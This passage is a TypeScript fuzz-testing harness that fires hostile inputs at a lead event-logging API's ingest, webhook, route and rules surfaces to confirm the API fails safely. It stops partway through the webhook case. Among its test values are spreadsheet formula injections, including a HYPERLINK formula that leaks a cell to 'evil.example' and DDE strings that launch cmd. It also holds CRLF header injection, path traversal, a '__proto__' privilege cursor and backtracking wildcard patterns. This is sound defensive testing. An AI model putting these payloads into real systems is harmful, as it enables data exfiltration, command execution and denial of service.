import fc from 'fast-check';
import { createHmac, randomUUID } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Worker } from 'node:worker_threads';
import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import { runArchiveSql } from '../../infra/local/athena.js';
import { LocalArchive } from '../../infra/local/local-archive.js';
import { LocalBus } from '../../infra/local/local-bus.js';
import { StreamPoller } from '../../infra/local/stream-poller.js';
import { loadSubscriberRules, SubscriberRulesError } from '../../infra/local/subscriber-rules.js';
import { createDocumentClient } from '../../shared/adapters/aws-clients.js';
import { createFanoutDependencies } from '../../shared/adapters/container.js';
import { loadConfig } from '../../shared/config.js';
import { routes } from '../../shared/definitions/routes.js';
import { matchesPattern } from '../../shared/domain/event-pattern.js';
import { setWebhookSecret } from '../../shared/domain/webhooks/secrets.js';
import { PROVIDERS, type Provider } from '../../shared/domain/webhooks/signatures.js';
import { createFanoutHandler } from '../../shared/stream/handler.js';
import type { EventPattern } from '../../shared/definitions/event-rules.js';
import { sampleEvent, type TestApi } from '../support/api.js';
import { problemOrSuccess } from './routes.js';

/**
 * The hostile-input fuzz (issue #20, contract v1.2 section 3 "Input that cannot hurt"). Generates the classes an
 * attacker or a careless client sends — lone surrogates, control characters, huge strings ending in `@` (digit
 * runs, dots), deep and wide objects, percent-encoded and over-long ids, absurd ranges and crafted or tampered
 * cursors, formula-leading cells, pathological wildcard patterns — on every surface: single and batch ingest,
 * signed webhooks of every provider (signed as the provider signs), the path and query parameters of every route,
 * the range bodies (exports, schedules, replays, remap, settings), and the subscriber rules file.
 *
 * Per case, the invariants:
 *  - every answer is a 2xx, or a 4xx problem+json (never a 5xx, never silence past REQUEST_LIMIT_MS);
 *  - what an answer reports as stored is stored (each reported id reads back), and at the end of each round the
 *    hostile tenant holds no event that no answer reported (never a half-written request);
 *  - a probe tenant's read, sent while the hostile request runs, answers within PROBE_LIMIT_MS;
 *  - at the end of each round an ordinary event of another org goes through the real stream and fan-out into a
 *    local archive and is read back from DuckDB's `events` (one tenant's data never stops the archive).
 * Cases run one by one and every failure is counted (not only the first), grouped by surface, class and symptom.
 */

export const REQUEST_LIMIT_MS = 20_000;
/** Generous on purpose (2 shared cores, DynamoDB Local): a stalled event loop costs seconds, not milliseconds. */
export const PROBE_LIMIT_MS = 3_000;
/** A rules file is loaded and each pattern matched against an odd event within this (EventBridge matches linearly). */
export const MATCH_LIMIT_MS = 1_000;

// ---------------------------------------------------------------------------------------------------- the classes

export const CLASSES = ['surrogate', 'control', 'huge', 'deep-wide', 'long-id', 'percent-id', 'range', 'cursor', 'formula', 'pattern'] as const;
export type HostileClass = (typeof CLASSES)[number];

const SURROGATES = ['\ud800', '\udbff', '\udc00', '\udfff'];
const CONTROLS = ['\u0000', '\u001f', '\u007f', '\u2028', '\u0008', '\r\n'];
const where = fc.constantFrom('start', 'middle', 'end');
const insert = (base: string, ch: string, at: string) => (at === 'start' ? ch + base : at === 'end' ? base + ch : base.slice(0, 3) + ch + base.slice(3));
const base = fc.constantFrom('lead_42', 'ana@example.com', 'José Silva', 'x', '+5511987654321');

const hostileText: Record<Exclude<HostileClass, 'deep-wide' | 'percent-id' | 'range' | 'cursor'>, fc.Arbitrary<string>> = {
  surrogate: fc.tuple(base, fc.constantFrom(...SURROGATES), where).map(([b, ch, at]) => insert(b, ch, at)),
  control: fc.tuple(base, fc.constantFrom(...CONTROLS), where).map(([b, ch, at]) => insert(b, ch, at)),
  // Sizes within a single event's 256 KB: the masking and matching scanners must take them in linear time.
  huge: fc.tuple(fc.constantFrom(1_000, 20_000, 100_000, 190_000), fc.constantFrom('at', 'digits', 'dots', 'atdots', 'phoneish', 'spaces-at')).map(([n, shape]) => {
    switch (shape) {
      case 'at': return `${'a'.repeat(n)}@`;
      case 'digits': return '1'.repeat(n);
      case 'dots': return `${'a.'.repeat(n / 2)}@`;
      case 'atdots': return `a@${'b.'.repeat(n / 2)}`;
      case 'phoneish': return '+1 '.repeat(n / 3);
      default: return `${'a '.repeat(n / 2)}@`;
    }
  }),
  'long-id': fc.constantFrom('a'.repeat(256), 'é'.repeat(513), 'x'.repeat(3000), '😀'.repeat(130), `${'1'.repeat(255)}`),
  formula: fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1', '=1+1', '+5511987654321'),
  pattern: fc.integer({ min: 5, max: 40 }).map((k) => `${'*a'.repeat(k)}*b`),
};
const anyText = fc.oneof(...Object.entries(hostileText).map(([cls, arb]) => arb.map((value) => ({ cls: cls as HostileClass, value }))));

/** Deep objects are written into the JSON text itself (§DEEP:n§), so no JavaScript recursion builds them. */
const deepOrWide = fc.oneof(
  fc.constantFrom(40, 200, 1_000, 5_000).map((n) => `§DEEP:${n}§`),
  fc.constantFrom(1_000, 10_000).map((n) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`k${i}`, i % 2 ? 'a@b.co' : i]))),
  fc.constantFrom(10_000, 40_000).map((n) => Array.from({ length: n }, (_, i) => i)),
);

function expandDeep(text: string): string {
  return text.replace(/"§DEEP:(\d+)§"/g, (_, n: string) => '{"a":'.repeat(Number(n)) + '"x@y.co"' + '}'.repeat(Number(n)));
}

/** A string as a (mostly) printable repro: long runs collapsed, every control and surrogate escaped. */
export function show(value: unknown, max = 400): string {
  const text = typeof value === 'string' ? JSON.stringify(value) : JSON.stringify(value) ?? String(value);
  const collapsed = text.replace(/(.{1,3}?)\1{12,}/gs, (run, unit: string) => `${unit}«×${run.length / unit.length}»`);
  return collapsed.length > max ? `${collapsed.slice(0, max)}…(${collapsed.length} chars)` : collapsed;
}

// ------------------------------------------------------------------------------------------------------ the cases

const EVENT_FIELDS = [
  'lead_id', 'reason', 'flow_id', 'step_id', 'entity_id', 'object_id', 'object_id_ref', 'external_event_id', 'source', 'event_type',
  'payload.value', 'payload.key', 'lead_snapshot.email', 'lead_snapshot.notes', 'raw_payload.text', 'appended.key', 'identity.email', 'identity.phone', 'identity.refs', 'occurred_at',
] as const;
type EventField = (typeof EVENT_FIELDS)[number];

export type HostileCase =
  | { surface: 'event'; cls: HostileClass; field: EventField; value: unknown }
  | { surface: 'batch'; cls: HostileClass; items: ({ field: EventField; value: unknown } | 'valid' | 'oversize' | 'twin' | 'not-an-object')[] }
  | { surface: 'webhook'; cls: HostileClass; provider: Provider; slot: string; value: unknown }
  | { surface: 'path'; cls: HostileClass; route: string; segment: string }
  | { surface: 'query'; cls: HostileClass; route: string; query: [string, string][] }
  | { surface: 'cursor'; cls: 'cursor'; route: string; cursor: string | { tamper: number } }
  | { surface: 'range-body'; cls: HostileClass; route: string; body: unknown }
  | { surface: 'rules'; cls: HostileClass; patterns: Record<string, unknown>; subjects: Record<string, unknown>[] };

const fieldValue = fc.oneof(
  { weight: 8, arbitrary: anyText },
  { weight: 2, arbitrary: deepOrWide.map((value) => ({ cls: 'deep-wide' as HostileClass, value: value as unknown })) },
);
const eventCase = fc.tuple(fc.constantFrom(...EVENT_FIELDS), fieldValue).map(([field, { cls, value }]): HostileCase => ({ surface: 'event', cls, field, value }));

const batchItem = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(fc.constantFrom(...EVENT_FIELDS), anyText.filter((t) => t.value.length < 120_000)).map(([field, { value }]) => ({ field, value })) },
  { weight: 3, arbitrary: fc.constant('valid' as const) },
  { weight: 1, arbitrary: fc.constant('oversize' as const) },
  { weight: 1, arbitrary: fc.constant('twin' as const) },
  { weight: 1, arbitrary: fc.constant('not-an-object' as const) },
);
const batchCase = fc.array(batchItem, { minLength: 1, maxLength: 6 }).map((items): HostileCase => ({ surface: 'batch', cls: items.some((i) => i === 'oversize') ? 'huge' : 'surrogate', items }));

const WEBHOOK_SLOTS = ['email', 'name', 'lead-hint', 'free-text', 'object-id', 'event-id', 'key', 'nested'] as const;
const webhookCase = fc.tuple(fc.constantFrom(...PROVIDERS), fc.constantFrom(...WEBHOOK_SLOTS), fieldValue)
  .map(([provider, slot, { cls, value }]): HostileCase => ({ surface: 'webhook', cls, provider, slot, value }));

// Percent-encoded path segments: separators, escapes, NUL, malformed and over-long sequences, encoded surrogates.
const PERCENT_SEGMENTS = [
  'a%2Fb', '%2F', '%25', '%2525', '%00', 'a%00b', '%E0%A4%A', '%E0%A4', '%', '%zz', '%ED%A0%80', '%ED%B0%80', '%C0%AF', '%F4%90%80%80',
  '%1F', '%7F', '%E2%80%A8', '%0D%0Aset-cookie:%20x', '..', '%2E%2E', '%F0%9F%98%80', 'Jos%C3%A9%20Silva', 'lead%23x', 'a%3Fb%3Dc',
];
const encodeAll = (s: string) => encodeURIComponent(s);
const segmentCase = fc.oneof(
  fc.constantFrom(...PERCENT_SEGMENTS).map((segment) => ({ cls: 'percent-id' as HostileClass, segment })),
  fc.constantFrom(1_025, 3_000).map((n) => ({ cls: 'long-id' as HostileClass, segment: 'a'.repeat(n) })),
  fc.constant({ cls: 'long-id' as HostileClass, segment: encodeAll('é'.repeat(513)) }),
  fc.constant({ cls: 'long-id' as HostileClass, segment: encodeAll('😀'.repeat(300)) }),
  fc.constant({ cls: 'pattern' as HostileClass, segment: encodeAll(`${'*a'.repeat(30)}*b`) }),
  fc.constant({ cls: 'huge' as HostileClass, segment: `${'a'.repeat(6_000)}%40` }),
);
const PATH_ROUTES = routes.filter((r) => r.path.includes('{')).map((r) => `${r.method} ${r.path}`);
const pathCase = fc.tuple(fc.constantFrom(...PATH_ROUTES, 'GET /_files/{path}'), segmentCase)
  .map(([route, { cls, segment }]): HostileCase => ({ surface: 'path', cls, route, segment }));

const RANGE_VALUES = [
  '9999-12-31T23:59:59.999Z', '+275760-09-13T00:00:00.000Z', '-000001-01-01T00:00:00.000Z', '0000-01-01T00:00:00Z', '1970-01-01T00:00:00.000Z',
  '2026-02-30T00:00:00Z', '2026-13-45', 'NaN', '', ' ', '-1', '0', '1e400', '99999999999999999999', '2026-11-23T10:00:00+99:00', 'now', 'null',
];
const QUERY_KEYS: Record<string, string[]> = {
  'GET /v1/events': ['type', 'source', 'outcome', 'flow_id', 'from', 'to', 'limit', 'cursor'],
  'GET /v1/leads/{lead_id}/events': ['type', 'outcome', 'from', 'to', 'order', 'limit', 'cursor', 'include'],
  'GET /v1/flows/{flow_id}/events': ['lead_id', 'type', 'start', 'end', 'limit', 'cursor'],
  'GET /v1/leads': ['email', 'phone', 'country', 'ref'],
  'GET /v1/alerts': ['from', 'to', 'limit', 'cursor'],
  'GET /v1/audit': ['from', 'to', 'limit', 'cursor'],
  'GET /v1/exports/schedules': ['limit', 'cursor'],
};
const queryValue = fc.oneof(
  fc.constantFrom(...RANGE_VALUES).map((value) => ({ cls: 'range' as HostileClass, value })),
  fc.constantFrom('source.*', '*', 'source.', '.*', 'a*a*a*a*a*a*a*a*b', 'lead_snapshot,raw_payload,lead_snapshot', 'asc,desc', '1000', '1001', '-5', '0.5')
    .map((value) => ({ cls: 'pattern' as HostileClass, value })),
  anyText.filter((t) => t.value.length <= 20_000),
);
const queryCase = fc.tuple(fc.constantFrom(...Object.keys(QUERY_KEYS)), fc.nat())
  .chain(([route, n]) => fc.array(fc.tuple(fc.constantFrom(...QUERY_KEYS[route]!), queryValue), { minLength: 1, maxLength: 4 })
    // Sometimes a key twice (`?type=a&type=b`): arrays where the handler expects one value.
    .map((pairs) => (n % 4 === 0 ? [...pairs, pairs[0]!] : pairs))
    .map((pairs): HostileCase => ({ surface: 'query', cls: pairs[0]![1].cls, route, query: pairs.map(([k, { value }]) => [k, value]) })));

const b64 = (s: string) => Buffer.from(s).toString('base64url');
const craftedCursor = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }).map((v) => b64(JSON.stringify(v))),
  fc.constantFrom(
    b64('{"o":"org_other","k":{"pk":"org_other#x"}}'), b64(`{"p":{"occurred_at":"9999-12-31T23:59:59.999Z","id":"${'a'.repeat(3000)}"}}`),
    b64('{"__proto__":{"admin":true}}'), b64('\ud800'), b64('x'.repeat(10_000)), '====', 'a', '%00', '..', b64('[]'), b64('null'), b64('1e400'),
  ),
);
const cursorCase = fc.tuple(fc.constantFrom('GET /v1/events', 'GET /v1/leads/{lead_id}/events', 'GET /v1/flows/{flow_id}/events', 'GET /v1/audit', 'GET /v1/alerts'),
  fc.oneof(craftedCursor, fc.nat({ max: 400 }).map((tamper) => ({ tamper }))))
  .map(([route, cursor]): HostileCase => ({ surface: 'cursor', cls: 'cursor', route, cursor }));

const range = fc.tuple(fc.constantFrom(...RANGE_VALUES, '2026-01-01T00:00:00.000Z'), fc.constantFrom(...RANGE_VALUES, '2020-01-01T00:00:00.000Z'));
const rangeBodyCase = fc.oneof(
  range.map(([from, to]) => ({ route: 'POST /v1/replays', body: { from, to, dry_run: true } })),
  range.map(([from, to]) => ({ route: 'POST /v1/exports', body: { format: 'csv', filter: { from, to } } })),
  range.map(([from, to]) => ({ route: 'POST /v1/webhooks/remap', body: { from, to } })),
  fc.tuple(range, anyText.filter((t) => t.value.length < 10_000)).map(([[from, to], { value }]) => ({ route: 'POST /v1/exports', body: { format: 'jsonl', filter: { from: from || undefined, to, lead_id: value, flow_id: value } } })),
  fc.tuple(anyText.filter((t) => t.value.length < 10_000), fc.constantFrom('day', 'week', 'year', '')).map(([{ value }, every]) => ({ route: 'POST /v1/exports/schedules', body: { name: value, every, format: 'csv', filter: { source: value } } })),
  anyText.filter((t) => t.value.length < 10_000).map(({ value }) => ({ route: 'PUT /v1/settings/privacy', body: { pii_keys: [value, value.slice(0, 64)] } })),
).map(({ route, body }): HostileCase => ({ surface: 'range-body', cls: 'range', route, body }));

const hostilePattern = fc.oneof(
  fc.integer({ min: 5, max: 60 }).map((k) => ({ detail: { lead_id: [{ wildcard: `${'*a'.repeat(k)}*b` }] } })),
  fc.integer({ min: 5, max: 60 }).map((k) => ({ detail: { lead_id: [{ 'anything-but': { wildcard: [`${'*a'.repeat(k)}*b`] } }] } })),
  fc.constantFrom(1_000, 5_000, 50_000).map((n) => ({ detail: { lead_id: [{ prefix: 'a'.repeat(n) }] } })),
  fc.constantFrom(1_000, 5_000).map((n) => ({ detail: { lead_id: Array.from({ length: n }, (_, i) => `lead_${i}`) } })),
  fc.constantFrom(50, 500).map((n) => JSON.parse('{"detail":'.repeat(n) + '["x"]' + '}'.repeat(n)) as unknown),
  fc.constantFrom(...SURROGATES, ...CONTROLS).map((ch) => ({ detail: { [`lead${ch}`]: [{ prefix: ch }], reason: [{ suffix: `${ch}@` }] } })),
  fc.constantFrom([{ prefix: '' }], [{ suffix: '' }], [{ 'anything-but': { prefix: '' } }], [{ cidr: '10.0.0.0/99' }], [{ numeric: ['>', 1e400] }], [{ numeric: ['<', 'x'] }], [{ wildcard: '**' }], [{ wildcard: '' }], [{ exists: 'yes' }])
    .map((leaf) => ({ detail: { lead_id: leaf } })),
);
const subject = fc.oneof(
  fc.constantFrom(50, 500, 5_000, 100_000).map((n) => ({ lead_id: 'a'.repeat(n), reason: `${'a'.repeat(n)}@` })),
  anyText.map(({ value }) => ({ lead_id: value, reason: value, payload: { [value.slice(0, 200)]: value } })),
);
const rulesCase = fc.tuple(fc.dictionary(fc.stringMatching(/^[a-z][a-z0-9_]{0,12}$/), hostilePattern, { minKeys: 1, maxKeys: 3 }), fc.array(subject, { minLength: 1, maxLength: 3 }))
  .map(([patterns, subjects]): HostileCase => ({ surface: 'rules', cls: 'pattern', patterns, subjects }));

/** Every surface, weighted toward the ones with the most paths through the code. */
export const hostileCase: fc.Arbitrary<HostileCase> = fc.oneof(
  { weight: 6, arbitrary: eventCase },
  { weight: 3, arbitrary: batchCase },
  { weight: 5, arbitrary: webhookCase },
  { weight: 3, arbitrary: pathCase },
  { weight: 3, arbitrary: queryCase },
  { weight: 1, arbitrary: cursorCase },
  { weight: 2, arbitrary: rangeBodyCase },
  { weight: 1, arbitrary: rulesCase },
);

const BLOCK = 100;
let cachedBlock: { key: string; cases: HostileCase[] } | undefined;
/**
 * Case `index` of the run with `seed`: generated a block of 100 at a time (huge strings are not all held at once),
 * so any case can be replayed alone (`npm run fuzz -- --seed S --start I --runs 1`).
 */
export function caseAt(seed: number, index: number): HostileCase {
  const block = Math.floor(index / BLOCK);
  const key = `${seed}:${block}`;
  if (cachedBlock?.key !== key) cachedBlock = { key, cases: fc.sample(hostileCase, { numRuns: BLOCK, seed: seed + block * BLOCK }) };
  return cachedBlock.cases[index - block * BLOCK]!;
}

/** A short, readable description of a case for the findings list. */
export function describeCase(c: HostileCase): string {
  switch (c.surface) {
    case 'event': return `POST /v1/events with ${c.field} = ${show(c.value)}`;
    case 'batch': return `POST /v1/events/batch items ${show(c.items.map((i) => (typeof i === 'string' ? i : `${i.field}=${show(i.value, 80)}`)))}`;
    case 'webhook': return `POST /v1/webhooks/${c.provider}/{org} (signed) ${c.slot} = ${show(c.value)}`;
    case 'path': return `${c.route.split(' ')[0]} ${fillPath(c.route.split(' ')[1]!, c.segment)}`.slice(0, 400);
    case 'query': return `${c.route}?${show(c.query)}`;
    case 'cursor': return `${c.route} cursor ${typeof c.cursor === 'string' ? show(c.cursor, 120) : `tampered at ${c.cursor.tamper}`}`;
    case 'range-body': return `${c.route} ${show(c.body)}`;
    case 'rules': return `leadlog.rules.json ${show(c.patterns, 300)} against ${show(c.subjects, 200)}`;
  }
}

function fillPath(path: string, segment: string, others = 'x'): string {
  let first = true;
  return path.replace(/\{[^}]+\}/g, (param) => {
    if (param === '{provider}') return 'stripe';
    const value = first ? segment : others;
    first = false;
    return value;
  });
}

// ---------------------------------------------------------------------------------------------- running the cases

export interface Answer { status: number; headers: Headers; text: string; body: any; ms: number }

export interface HostileOptions {
  runs: number;
  seed: number;
  /** The first case's index (to replay cases start..start+runs-1 of a seed's run). */
  start?: number;
  /** Cases per round: a fresh hostile tenant, then the storage and archive checks. */
  roundSize?: number;
  onCase?: (failed: boolean) => void;
}

export interface Finding { key: string; surface: string; cls: string; problem: string; repro: string; count: number; firstIndex: number }

export interface HostileReport {
  passed: number;
  failed: number;
  findings: Finding[];
  probe: { baselineMs: number; maxMs: number; maxRatio: number };
  rounds: number;
}

interface Tenant { orgId: string; key: string; reader: string; secrets: Record<Provider, string>; acknowledged: Set<string>; leadId: string }

export async function fuzzHostile(api: TestApi, options: HostileOptions): Promise<HostileReport> {
  const roundSize = options.roundSize ?? 100;
  const findings = new Map<string, Finding>();
  let passed = 0;
  let failed = 0;
  let counter = 0;
  const unique = () => `${Date.now().toString(36)}_${(counter++).toString(36)}`;

  const send = async (method: string, path: string, init: { key?: string; body?: string | Buffer; headers?: Record<string, string> } = {}): Promise<Answer> => {
    const started = performance.now();
    const headers: Record<string, string> = { ...init.headers };
    if (init.key) headers.authorization = `Bearer ${init.key}`;
    if (init.body !== undefined) headers['content-type'] ??= 'application/json';
    try {
      const response = await fetch(api.url + path, { method, headers, ...(init.body !== undefined ? { body: init.body } : {}), signal: AbortSignal.timeout(REQUEST_LIMIT_MS) });
      const text = await response.text();
      let body: unknown;
      try { body = text ? JSON.parse(text) : undefined; } catch { body = undefined; }
      return { status: response.status, headers: response.headers, text, body, ms: performance.now() - started };
    } catch (error) {
      const message = (error as Error).name === 'TimeoutError' ? `no answer within ${REQUEST_LIMIT_MS} ms` : (error as Error).message;
      return { status: 0, headers: new Headers(), text: message, body: undefined, ms: performance.now() - started };
    }
  };
  const answerProblem = (what: string, res: Answer): string | undefined => {
    if (res.status === 0) return `${what}: ${res.text.slice(0, 200)}`;
    const problem = problemOrSuccess(res);
    return problem ? `${what}: ${problem}` : undefined;
  };

  // The probe tenant: one stored event with PII, read masked over and over by a worker thread while the cases run.
  // A thread of its own, because the API may share this process's event loop: a stalled loop delays the harness's
  // own timers too, and only an outside clock sees the stall.
  const probeOrg = await api.newOrg(['events:write', 'events:read']);
  const probeReader = await api.keyFor(probeOrg.orgId, ['events:read']);
  const probeEvent = await send('POST', '/v1/events', { key: probeOrg.key, body: JSON.stringify(sampleEvent({ lead_id: 'probe_lead', lead_snapshot: { email: 'probe.person@example.com', first_name: 'Probe' } })) });
  if (probeEvent.status !== 201) throw new Error(`the probe tenant could not store its event: ${probeEvent.status} ${probeEvent.text}`);
  const probe = startProbe(`${api.url}/v1/events/${probeEvent.body.event.id}`, probeReader);
  await new Promise((r) => setTimeout(r, 2_000));
  const baselineMs = probe.median();
  let maxProbeMs = 0;

  const newTenant = async (): Promise<Tenant> => {
    const { orgId, key } = await api.newOrg();
    const reader = await api.keyFor(orgId, ['events:read']);
    const secrets = {} as Record<Provider, string>;
    for (const provider of PROVIDERS) {
      secrets[provider] = `hostile_${provider}_${randomUUID()}`;
      await setWebhookSecret(api.deps.webhookSecrets, { orgId, provider, secret: secrets[provider], nowIso: new Date().toISOString() });
    }
    const tenant: Tenant = { orgId, key, reader, secrets, acknowledged: new Set(), leadId: 'lead_hostile' };
    // Enough ordinary events for pages with a next cursor on every listing.
    const res = await send('POST', '/v1/events/batch', { key, body: JSON.stringify({ events: Array.from({ length: 3 }, () => sampleEvent({ lead_id: tenant.leadId, flow_id: 'flow_hostile' })) }) });
    for (const r of res.body?.results ?? []) if (r.id) tenant.acknowledged.add(r.id);
    return tenant;
  };

  const record = (index: number, c: HostileCase, problems: string[]) => {
    if (problems.length === 0) {
      passed++;
      options.onCase?.(false);
      return;
    }
    failed++;
    options.onCase?.(true);
    for (const problem of problems) {
      // One finding per surface, class, route or field and symptom (numbers and ids stripped from the symptom).
      const where = c.surface === 'event' ? c.field : c.surface === 'webhook' ? `${c.provider}.${c.slot}` : 'route' in c ? c.route : '';
      const symptom = problem.replace(/[0-9a-f]{8}-[0-9a-f-]{27}|\d+/g, '#').slice(0, 90);
      const key = `${c.surface}|${c.cls}|${where}|${symptom}`;
      const known = findings.get(key);
      if (known) known.count++;
      else findings.set(key, { key, surface: c.surface, cls: c.cls, problem: problem.slice(0, 600), repro: describeCase(c), count: 1, firstIndex: index });
    }
  };

  const archiveDir = mkdtempSync(join(tmpdir(), 'leadlog-hostile-archive-'));
  const archive = new LocalArchive({ dir: archiveDir, maxRows: 1_000_000 });
  await archive.start();
  const bus = new LocalBus({ rules: [{ id: 'all', description: 'every entry', pattern: { source: ['leadlog'] } }], print: false });
  const fanout = createFanoutHandler(createFanoutDependencies(loadConfig(), { bus, archive }));
  const poller = new StreamPoller({ endpoint: process.env.DYNAMODB_ENDPOINT!, tableName: process.env.EVENTS_TABLE_NAME!, handler: fanout, batchSize: 1000 });
  const dynamo = createDocumentClient({ endpoint: process.env.DYNAMODB_ENDPOINT! });
  const rulesDir = mkdtempSync(join(tmpdir(), 'leadlog-hostile-rules-'));

  let rounds = 0;
  try {
    let tenant = await newTenant();
    const first = options.start ?? 0;
    for (let index = first; index < first + options.runs; index += roundSize) {
      const count = Math.min(roundSize, first + options.runs - index);
      for (let i = 0; i < count; i++) {
        const c = caseAt(options.seed, index + i);
        probe.reset();
        const started = performance.now();
        let problems: string[];
        try {
          problems = await runCase(c, tenant);
        } catch (error) {
          problems = [`the harness threw: ${(error as Error).message.slice(0, 300)}`];
        }
        const caseMs = performance.now() - started;
        const { maxMs, failures } = probe.read();
        maxProbeMs = Math.max(maxProbeMs, maxMs);
        if (failures > 0) problems.push(`the probe tenant's read failed ${failures} time(s) while this case ran`);
        if (maxMs > PROBE_LIMIT_MS) problems.push(`the probe tenant waited ${Math.round(maxMs)} ms (baseline ${baselineMs.toFixed(0)} ms) while this case ran (${Math.round(caseMs)} ms)`);
        record(index + i, c, problems);
      }
      rounds++;
      const roundProblems = [...(await unreported(tenant)), ...(await archiveTakesNextOrg())];
      if (roundProblems.length > 0) {
        failed++;
        for (const problem of roundProblems) {
          const key = `round|${problem.replace(/[0-9a-f]{8}-[0-9a-f-]{27}|org_[0-9a-f]+|\d+/g, '#').slice(0, 90)}`;
          const known = findings.get(key);
          if (known) known.count++;
          else findings.set(key, { key, surface: 'round', cls: '-', problem: problem.slice(0, 800), repro: `after cases ${index}..${index + count - 1} (seed ${options.seed})`, count: 1, firstIndex: index });
        }
      }
      if (index + roundSize < first + options.runs) tenant = await newTenant();
    }
  } finally {
    await probe.stop();
    await archive.stop().catch(() => undefined);
    dynamo.destroy();
  }
  return { passed, failed, findings: [...findings.values()], probe: { baselineMs, maxMs: maxProbeMs, maxRatio: maxProbeMs / Math.max(baselineMs, 1) }, rounds };

  // ------------------------------------------------------------------------------------------- one case, by surface

  async function runCase(c: HostileCase, t: Tenant): Promise<string[]> {
    switch (c.surface) {
      case 'event': return eventCaseRun(c, t);
      case 'batch': return batchCaseRun(c, t);
      case 'webhook': return webhookCaseRun(c, t);
      case 'path': return pathCaseRun(c, t);
      case 'query': return queryCaseRun(c, t);
      case 'cursor': return cursorCaseRun(c, t);
      case 'range-body': return rangeBodyCaseRun(c, t);
      case 'rules': return rulesCaseRun(c);
    }
  }

  function hostileEvent(field: EventField, value: unknown): Record<string, unknown> {
    const event = sampleEvent({ lead_id: 'lead_hostile', external_event_id: `ext_${unique()}` });
    const [top, sub] = field.split('.') as [string, string | undefined];
    if (top === 'event_type') event.event_type = `custom.${typeof value === 'string' ? value : 'x'}`;
    else if (top === 'reason') Object.assign(event, { event_type: 'source.rejected', outcome: 'failure', reason: value, payload: {} });
    else if (!sub) event[top] = value;
    else if (top === 'identity') event.identity = sub === 'refs' ? { refs: [`stripe:${typeof value === 'string' ? value : 'x'}`, value] } : { [sub]: value };
    else if (sub === 'key') event[top] = { ...(event[top] as object ?? {}), [typeof value === 'string' ? value : 'k']: typeof value === 'string' ? 'v' : value };
    else event[top] = { ...(top === 'payload' ? (event.payload as object) : {}), [sub]: value };
    return event;
  }

  /** A reported event reads back (masked: a key without pii:read, so masking runs over it) and on its lead's timeline. */
  async function readsBack(t: Tenant, id: string, leadId: unknown): Promise<string[]> {
    const problems: string[] = [];
    const masked = await send('GET', `/v1/events/${id}`, { key: t.reader });
    const p1 = answerProblem('masked read', masked);
    if (p1) problems.push(p1);
    else if (masked.status !== 200) problems.push(`reported stored, but GET /v1/events/{id} answered ${masked.status}: ${masked.text.slice(0, 150)}`);
    if (typeof leadId === 'string' && leadId.length > 0) {
      const timeline = await send('GET', `/v1/leads/${encodeURIComponent(leadId.toWellFormed())}/events?include=lead_snapshot,raw_payload`, { key: t.reader });
      const p2 = answerProblem('masked timeline', timeline);
      if (p2) problems.push(p2);
    }
    return problems;
  }

  async function eventCaseRun(c: Extract<HostileCase, { surface: 'event' }>, t: Tenant): Promise<string[]> {
    const event = hostileEvent(c.field, c.value);
    const res = await send('POST', '/v1/events', { key: t.key, body: expandDeep(JSON.stringify(event)) });
    const problem = answerProblem('POST /v1/events', res);
    if (problem) return [problem];
    if (res.status === 201 || res.status === 200) {
      const id = res.body?.event?.id;
      if (typeof id !== 'string') return [`answered ${res.status} without event.id`];
      t.acknowledged.add(id);
      return readsBack(t, id, res.body.event.lead_id);
    }
    return [];
  }

  async function batchCaseRun(c: Extract<HostileCase, { surface: 'batch' }>, t: Tenant): Promise<string[]> {
    const twinId = `twin_${unique()}`;
    const events = c.items.map((item) => {
      if (item === 'valid') return sampleEvent({ lead_id: t.leadId, external_event_id: `ok_${unique()}` });
      if (item === 'twin') return sampleEvent({ lead_id: t.leadId, external_event_id: twinId });
      if (item === 'not-an-object') return null;
      if (item === 'oversize') return sampleEvent({ lead_id: t.leadId, external_event_id: `big_${unique()}`, payload: { product_id: 'p', product_name: 'n', category: 'c', note: 'z'.repeat(300 * 1024) } });
      return hostileEvent(item.field, item.value);
    });
    const res = await send('POST', '/v1/events/batch', { key: t.key, body: JSON.stringify({ events }) });
    const problem = answerProblem('POST /v1/events/batch', res);
    if (problem) return [problem];
    if (res.status !== 200) return [];
    const results = res.body?.results;
    if (!Array.isArray(results) || results.length !== events.length) return [`batch of ${events.length} answered ${Array.isArray(results) ? results.length : 'no'} results`];
    const problems: string[] = [];
    for (const [i, r] of results.entries()) {
      if (r.index !== i) problems.push(`result ${i} has index ${r.index}`);
      if (!['created', 'duplicate', 'conflict', 'invalid'].includes(r.status)) problems.push(`result ${i} has status ${r.status}`);
      if (c.items[i] === 'oversize' && r.status !== 'invalid') problems.push(`an item over 256 KB was ${r.status}, not invalid`);
      if (r.status === 'created' || r.status === 'duplicate') {
        if (typeof r.id !== 'string') { problems.push(`result ${i} ${r.status} without an id`); continue; }
        t.acknowledged.add(r.id);
        const back = await send('GET', `/v1/events/${r.id}`, { key: t.key });
        if (back.status !== 200) problems.push(`batch item reported ${r.status} but GET /v1/events/{id} answered ${back.status}`);
      }
    }
    return problems;
  }

  function providerBody(c: Extract<HostileCase, { surface: 'webhook' }>, t: Tenant): { body: string; headers: Record<string, string> } {
    const id = unique();
    const v = c.value;
    const s = typeof v === 'string' ? v : 'x';
    const at = (slot: string, normal: unknown) => (c.slot === slot ? v : normal);
    const extra = c.slot === 'key' ? { [s]: 'value' } : c.slot === 'nested' ? { nested: v } : {};
    let shape: unknown;
    switch (c.provider) {
      case 'stripe':
        shape = { id: c.slot === 'event-id' ? `evt_${s}` : `evt_${id}`, object: 'event', type: 'checkout.session.completed', created: Math.floor(Date.now() / 1000), data: { object: {
          id: c.slot === 'object-id' ? `cs_${s}` : `cs_${id}`, object: 'checkout.session', payment_status: 'paid', amount_total: 4900, currency: 'usd', customer: `cus_${id}`,
          client_reference_id: at('lead-hint', null), customer_details: { email: at('email', `buyer_${id}@example.com`), name: at('name', 'Ana Silva'), phone: '+5511987654321' },
          metadata: { product_id: 'p', product_name: at('free-text', 'Course'), category: 'c', ...(c.slot === 'lead-hint' ? { lead_id: v } : {}), ...extra },
        } } };
        break;
      case 'shopify':
